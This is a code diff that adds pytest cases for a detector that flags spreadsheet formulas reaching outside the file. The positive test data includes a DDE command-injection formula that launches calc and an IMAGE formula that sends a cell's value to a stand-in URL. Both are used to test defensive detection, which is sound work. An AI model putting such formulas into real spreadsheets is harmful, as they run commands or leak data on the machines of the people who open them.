@@ -117,3 +117,21 @@ def test_percentages_of_a_sheet_stay_percentages(ods):
     content = mark_values.with_values(read(ods(rows))[1], plan(), whole=True)
     cell = openpyxl.load_workbook(io.BytesIO(content))["Map"]["A1"]
     assert (cell.value, cell.number_format) == (0.25, "0.##%")
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "='a\"'!A1+cmd|'/c calc \"'!A0",
+        '=_xlfn.IMAGE("http://x/?"&A1)',
+        '=IMPORTXML("http://x","//a")',
+        "=[1]Sheet1!A1",
+    ],
+)
+def test_a_formula_that_reaches_out_is_known_however_it_is_quoted(formula):
+    assert mark.reaches_out(formula)
+
+
+@pytest.mark.parametrize("formula", ['="a|b"&A1', "='Our sheet'!A1*2", "=SUM(IMAGES!A1:A3)"])
+def test_an_honest_formula_stays_one(formula):
+    assert not mark.reaches_out(formula)
